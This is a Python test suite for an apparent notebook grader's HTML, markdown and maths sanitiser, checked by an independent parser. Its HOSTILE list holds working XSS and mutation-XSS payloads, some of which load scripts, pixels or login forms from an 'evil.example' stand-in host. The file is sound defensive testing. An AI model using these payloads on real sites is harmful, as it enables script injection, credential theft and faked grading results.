"""What comes through the sanitiser, judged by a parser that has nothing to do with it."""

from __future__ import annotations

from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.transforms.markdown import safe_markdown
from grader.transforms.maths import MAX_TEX, to_mathml
from grader.transforms.portions import SOURCE_CHARACTERS
from grader.transforms.sanitize import clean_html, plain_text

EMPTY = {"br", "hr", "img"}
NEVER = {
    "script", "style", "iframe", "object", "embed", "svg", "form", "input", "button", "link",
    "meta", "base", "textarea", "title", "h1", "video", "audio", "template", "noscript",
    "annotation-xml", "maction", "semantics", "frame", "body", "html", "head", "main",
}  # fmt: skip
ATTRIBUTES = {
    "href", "title", "rel", "id", "src", "alt", "class", "display", "stretchy", "fence", "form",
    "columnalign", "columnspacing", "rowspacing", "displaystyle", "width", "start", "accent",
    "linebreak", "mathvariant", "colspan", "rowspan",
}  # fmt: skip
SAFE_START = ("https://", "http://", "mailto:", "#in-", "data:image/png;base64,")


class Judge(HTMLParser):
    """Collects what is wrong with a fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.feed(fragment)
        self.close()
        self.wrong += [f"<{tag}> is never closed" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NEVER:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{name}={value}")
            if name in ("href", "src") and not (value or "").startswith(SAFE_START):
                self.wrong.append(f"{name}={value}")
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> closes something else")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")


def test_the_judge_is_not_blind():
    for bad in (
        "<script>",
        "<p onclick='x'>",
        "<a href='javascript:x'>",
        "<p>",
        "</div>",
        "<!---->",
    ):
        assert Judge(bad + "x").wrong, bad


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='https://evil.example/pixel.png'>",
    "![pixel](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) <javascript:alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a> [r](../../secret)",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "</div></section></main><h1>100 of 100 marks</h1>",
    "<div class='card passed'><span class='verdict'>Passed</span></div>",
    "<p id='your-notebook'>x</p>",
    "<!-- <script> --><textarea><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=x></annotation-xml></math>",
    "<math href='javascript:alert(1)'><maction actiontype='statusline'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<b><b><b><i></b><p><table><tr><td></b></p></i>",
    "<p <p <p onclick=alert(1)>x",
    "<img alt='<script>' src=x>` `<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A-->B<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{card}{x}$",
    r"![$\text{" " onerror=alert(1)}$](attachment:x)",
    r"[$x$](https://example.org '$\text{" ">}$')",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\begin{align}<script>&alert(1)\\\\</script>\\end{align}",
    "<x-y onclick=alert(1)>\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_in_markdown_comes_through(source: str):
    assert Judge(safe_markdown(source)).wrong == []


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_cell_cannot_reach_what_follows_it(source: str):
    page = safe_markdown(source) + "<p>after</p>"
    assert Judge(page).wrong == []
    assert page.endswith("<p>after</p>")


TAGS = "<p |<a |<img |<math>|<mtext>|<table>|<svg>|<script>|<style>|</p>|</a>|</math>|<!--|-->"
TEXTS = "](|$$|onerror=|href=|src=|javascript:|data:|\\text{|}|\n\n"
PIECES = st.sampled_from([*"<>\"'&/=$`*_[]!#|-\n x", *TAGS.split("|"), *TEXTS.split("|")])


@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_mixture_of_markup_comes_through(source: str):
    html = safe_markdown(source)
    assert Judge(html).wrong == []
    # read once more, as a browser will, it is still the same: nothing was waiting to come out
    assert clean_html(html).replace('"in-in-', '"in-').replace("#in-in-", "#in-") == html


@given(st.text(max_size=200))
def test_any_text_comes_through_somehow(source: str):
    assert Judge(safe_markdown(source)).wrong == []
    assert Judge(clean_html(source)).wrong == []


LONG = ("> ", "[", "<b>", "*a ", "$", "`", "<div>", "| a ", "![", "- ", "<a <", "1. ", "\\(", "$x$")


@pytest.mark.parametrize("piece", LONG)
def test_a_cell_of_full_length_is_rendered_whatever_it_repeats(piece: str):
    assert Judge(safe_markdown(piece * (SOURCE_CHARACTERS // len(piece)))).wrong == []


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("a < b and `c<d` & *e*", "<p>a &lt; b and <code>c&lt;d</code> &amp; <em>e</em></p>\n"),
        ("# One\n###### Six", '<h2 id="in-One">One</h2>\n<h6 id="in-Six">Six</h6>\n'),
        ("|a|\n|-:|\n|1|", '<td class="right">1</td>'),
        ("[to](#2.-The-SVM-loss)", '<a href="#in-2.-The-SVM-loss"'),
        ("## 2. The SVM loss", '<h3 id="in-2.-The-SVM-loss">2. The SVM loss</h3>\n'),
        ("[notes](https://cs231n.github.io)", '<a href="https://cs231n.github.io"'),
        ("cost: $5 and $6", "<p>cost: "),
        ("$a<b$", "<mi>a</mi><mo>&lt;</mo><mi>b</mi>"),
        ("$$x$$", '<span class="maths"><math display="block">'),
        ("![a *cat*](cat.png)", "<em>[picture, not shown here: a <em>cat</em>]</em>"),
    ],
)
def test_ordinary_markdown_reads_as_in_jupyter(source: str, expected: str):
    assert expected in safe_markdown(source)


def test_a_picture_that_the_cell_carries_is_shown_once():
    attachments = {"me.png": {"image/png": "iVBORw0KGgo="}}
    html = safe_markdown('![a "cat"](attachment:me.png)' * 1000, attachments)
    assert html.count('src="data:image/png;base64,iVBORw0KGgo="') == 1
    assert 'alt="a &quot;cat&quot;"' in html
    assert attachments  # the caller's own are not touched


@pytest.mark.parametrize("kind", ["image/svg+xml", "text/html"])
def test_other_attachments_are_not_shown(kind: str):
    html = safe_markdown("![x](attachment:a)", {"a": {kind: "PHN2Zz4="}})
    assert "src=" not in html


@pytest.mark.parametrize(
    ("tex", "children"),
    [
        ("x_1^2", {"msubsup", "mi", "mn"}),
        (r"\frac1N \sum_{i=1}^N L_i", {"mfrac", "munderover"}),
        (r"\begin{pmatrix} W \\ b \end{pmatrix}", {"mtable", "mtr", "mtd"}),
        (r"\begin{aligned} a &= b \\ &= c \end{aligned}", {"mtable"}),
        (r"\begin{cases} a & x>0 \\ b & \text{else} \end{cases}", {"mtable", "mtext"}),
    ],
)
def test_a_formula_becomes_well_formed_mathml(tex: str, children: set[str]):
    root = ElementTree.fromstring(to_mathml(tex, block=True))
    assert root.tag == "math"
    assert root.get("display") == "block"
    assert children <= {element.tag for element in root.iter()}


def test_markup_in_a_formula_is_text():
    root = ElementTree.fromstring(to_mathml(r"\text{<img src=x> & 'y'} a<b"))
    assert "".join(root.itertext()).replace("\xa0", " ") == "<img src=x> & 'y'a<b"
    assert {element.tag for element in root.iter()} <= {"math", "mrow", "mtext", "mi", "mo"}


@pytest.mark.parametrize("tex", ["{", r"\frac", "{" * 1900, r"\def\x{\x\x}\x", "x" * (MAX_TEX + 1)])
def test_what_is_no_formula_is_shown_as_it_was_written(tex: str):
    assert to_mathml(tex) == f'<code class="tex">{tex}</code>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title", ""),
        ("10%\r50%\r100%\ndone\r\n", "100%\ndone\n"),
        ("nul \x00 bell \x07", "nul \\u0000 bell \\u0007"),
        ("abc\u202edef", "abc\\u202edef"),
        ("\ud800", "?"),
        ("नमस्ते \u200d 🏳️\u200d🌈", "नमस्ते \u200d 🏳️\u200d🌈"),
        ("a\tb", "a\tb"),
        (None, "None"),
    ],
)
def test_text_is_without_codes_and_control_characters(text: object, expected: str):
    assert plain_text(text) == expected


@given(st.text(), st.integers(0, 50))
def test_a_cut_text_says_how_much_is_missing(text: str, limit: int):
    shown = plain_text(text, limit)
    assert ("more characters are not shown" in shown) == (len(text) > limit)
